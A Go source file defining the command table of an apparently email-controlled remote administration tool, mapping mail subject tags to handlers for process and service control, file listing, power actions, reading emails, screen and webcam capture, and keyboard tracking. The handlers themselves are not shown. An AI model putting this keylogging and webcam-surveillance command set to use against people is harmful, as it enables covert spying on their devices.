// Copyright (C) 2020 - 2022 iDigitalFlame
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU General Public License as published by
// the Free Software Foundation, either version 3 of the License, or
// any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU General Public License for more details.
//
// You should have received a copy of the GNU General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.
//

// Package task holds the command handler table the server dispatches gated
// commands through.
//
// Each subject tag maps to an ID value and each ID maps to a Runner. The
// platform actions themselves sit behind the System interface, which is
// supplied by the caller, this package only composes requests, artifacts and
// reply messages around it.
package task

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/google/uuid"
	"github.com/swtch9/mrc/mail"
	"github.com/swtch9/mrc/util/xerr"
)

// Mv* values are built-in IDs handled directly by the server before the
// Mappings table, as they alter access instead of running a platform action.
const (
	// MvRequestAccess is the access request command. It never runs a Runner,
	// approval happens out of band through the control API.
	MvRequestAccess uint8 = 0x01
)

// Tv* values are the IDs of the standard command set.
const (
	TvListProcess      uint8 = 0xB0
	TvStartProcess     uint8 = 0xB1
	TvEndProcess       uint8 = 0xB2
	TvReadRecentEmails uint8 = 0xB3
	TvCaptureScreen    uint8 = 0xB4
	TvCaptureWebcam    uint8 = 0xB5
	TvRecordWebcam     uint8 = 0xB6
	TvTrackKeyboard    uint8 = 0xB7
	TvListService      uint8 = 0xB8
	TvStartService     uint8 = 0xB9
	TvEndService       uint8 = 0xBA
	TvListFile         uint8 = 0xBB
	TvSysInfo          uint8 = 0xBC

	TvPowerShutdown  uint8 = 0xC0
	TvPowerRestart   uint8 = 0xC1
	TvPowerSleep     uint8 = 0xC2
	TvPowerLock      uint8 = 0xC3
	TvPowerHibernate uint8 = 0xC4
)

var (
	// ErrNoSystem is returned by Runners that need a platform capability when
	// the Env has no System attached.
	ErrNoSystem = xerr.New("no system capability attached")
	// ErrNoTargets is returned by Runners that act on named processes or
	// services when the command body names none.
	ErrNoTargets = xerr.New("no target names supplied")
)

// Tags maps a subject tag to its ID value. A tag missing from this map is an
// unknown command.
var Tags = map[string]uint8{
	"requestAccess":    MvRequestAccess,
	"listProcess":      TvListProcess,
	"startProcess":     TvStartProcess,
	"endProcess":       TvEndProcess,
	"readRecentEmails": TvReadRecentEmails,
	"captureScreen":    TvCaptureScreen,
	"captureWebcam":    TvCaptureWebcam,
	"recordWebcam":     TvRecordWebcam,
	"trackKeyboard":    TvTrackKeyboard,
	"listService":      TvListService,
	"startService":     TvStartService,
	"endService":       TvEndService,
	"listFile":         TvListFile,
	"sysinfo":          TvSysInfo,
	"powerShutdown":    TvPowerShutdown,
	"powerRestart":     TvPowerRestart,
	"powerSleep":       TvPowerSleep,
	"powerLock":        TvPowerLock,
	"powerHibernate":   TvPowerHibernate,
}

// Mappings is a fixed size array that contains the Runner for each ID value.
// Adding a mapping here (and a tag in Tags) makes it reachable by email.
var Mappings = [0xFF]Runner{
	TvListProcess:      runProcessList,
	TvStartProcess:     runProcessStart,
	TvEndProcess:       runProcessEnd,
	TvReadRecentEmails: runRecentEmails,
	TvCaptureScreen:    runCaptureScreen,
	TvCaptureWebcam:    runCaptureWebcam,
	TvRecordWebcam:     runRecordWebcam,
	TvTrackKeyboard:    runTrackKeyboard,
	TvListService:      runServiceList,
	TvStartService:     runServiceStart,
	TvEndService:       runServiceEnd,
	TvListFile:         runFileList,
	TvSysInfo:          runSysInfo,
	TvPowerShutdown:    runPower,
	TvPowerRestart:     runPower,
	TvPowerSleep:       runPower,
	TvPowerLock:        runPower,
	TvPowerHibernate:   runPower,
}

// Runner is a function that executes one command Request and returns the
// reply Result. Runners do not send mail or touch server state, the caller
// owns reply and logging semantics, including errors.
type Runner func(ctx context.Context, e Env, r Request) (Result, error)

// Request is the parsed input of a single command execution.
type Request struct {
	Tag     string
	Sender  string
	Content string
	ID      uint8
}

// Result is the outcome of a Runner. Message is the human readable reply
// narrative and File, if set, is an artifact path to attach.
type Result struct {
	Message string
	File    string
}

// Env bundles the collaborators a Runner may use, the platform System, the
// mailbox Transport (for mailbox related commands only) and the directory
// artifacts are written under.
type Env struct {
	Sys  System
	Mail mail.Transport
	Dir  string
}

// Args splits the free-form Request content on whitespace. There is no
// quoting, a process or service name containing spaces cannot be addressed.
func (r Request) Args() []string {
	return strings.Fields(r.Content)
}
func (e Env) artifact(n, ext string) (string, error) {
	d := e.Dir
	if len(d) == 0 {
		d = "results"
	}
	if err := os.MkdirAll(d, 0755); err != nil {
		return "", err
	}
	return filepath.Join(d, n+"_"+uuid.New().String()+ext), nil
}

// Duration reads the first Request argument as a second count, falling back
// to the supplied default when absent or unparsable.
func (r Request) Duration(d time.Duration) time.Duration {
	a := r.Args()
	if len(a) == 0 {
		return d
	}
	v, err := time.ParseDuration(a[0] + "s")
	if err != nil || v <= 0 {
		return d
	}
	return v
}
